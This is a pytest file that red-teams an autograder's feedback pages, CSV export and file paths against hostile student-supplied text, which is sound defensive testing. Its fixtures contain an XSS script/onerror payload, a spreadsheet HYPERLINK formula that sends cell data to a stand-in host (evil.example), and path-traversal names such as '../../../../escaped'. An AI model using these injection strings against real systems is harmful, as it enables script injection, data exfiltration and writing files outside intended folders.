"""Red team of the reports: student-made text in a record (an exception message, a notebook
name) must reach the feedback page escaped, never the CSV export, and never a path."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from autograder import export, feedback, grade_submission, records, samples
from autograder.results import PipelineRecord

HTML = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def hostile_trusted(tmp_path_factory):
    """The trusted grader's result for a conv forward that raises with HTML and a formula."""
    sub = tmp_path_factory.mktemp("sub")
    recipe = {"regions": {samples.CONV_F: ("body", f"raise ValueError({HTML + ' ' + FORMULA!r})")}}
    for rel in samples.FILES:
        (sub / rel).parent.mkdir(parents=True, exist_ok=True)
        (sub / rel).write_text(samples.build_file(rel, recipe), encoding="utf-8")
    trusted = grade_submission(sub, seed="redteam-reports", tasks=("hw5_conv_forward",))
    assert "<script>" in trusted["tasks"]["hw5_conv_forward"]["message"]  # the payload got in
    return trusted


def _course(tmp_path: Path, trusted: dict, notebooks: dict | None = None) -> Path:
    course = tmp_path / "course"
    sub = records.submission_path(course, "hw5", "20260001")
    sub.mkdir(parents=True)
    (sub / "hw5.ipynb").write_text("{}")
    records.store_record(
        course,
        "hw5",
        PipelineRecord.from_dict(
            {
                "version": records.RECORD_VERSION,
                "student": "20260001",
                "assignment": "hw5",
                "digest": records.digest(sub),
                "trusted": trusted,
                "autograde": {"notebooks": notebooks or {}},
                "flags": [],
            }
        ),
    )
    return course


def test_a_students_exception_text_is_escaped_on_the_feedback_page(tmp_path, hostile_trusted):
    course = _course(tmp_path, hostile_trusted)
    [page] = feedback.write_all(course, "hw5")
    html = page.read_text(encoding="utf-8")
    assert "<script" not in html.lower() and "<img" not in html.lower()
    assert "alert(1)" in feedback.visible_text(html)  # shown, as text


def test_no_student_text_reaches_the_csv_export(tmp_path, hostile_trusted):
    course = _course(tmp_path, hostile_trusted)
    out = export.export(course, "hw5")
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], rows
    assert not [c for c in cells if "HYPERLINK" in c or "script" in c], rows


@pytest.mark.parametrize("name", ["../../../../escaped", "hw5/../../x", ".hidden", "a b"])
def test_a_notebook_name_never_becomes_a_path_outside_the_students_folder(
    tmp_path, hostile_trusted, name
):
    course = _course(tmp_path, hostile_trusted, notebooks={name: {"grades": {}}})
    pages = feedback.write_all(course, "hw5")
    assert pages == [course / "feedback" / "20260001" / "hw5" / "hw5.html"]
    files = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file())
    assert [f for f in files if not f.startswith("course/")] == []
    assert [f for f in files if f.startswith("course/feedback/")] == [
        "course/feedback/20260001/hw5/hw5.html"
    ]
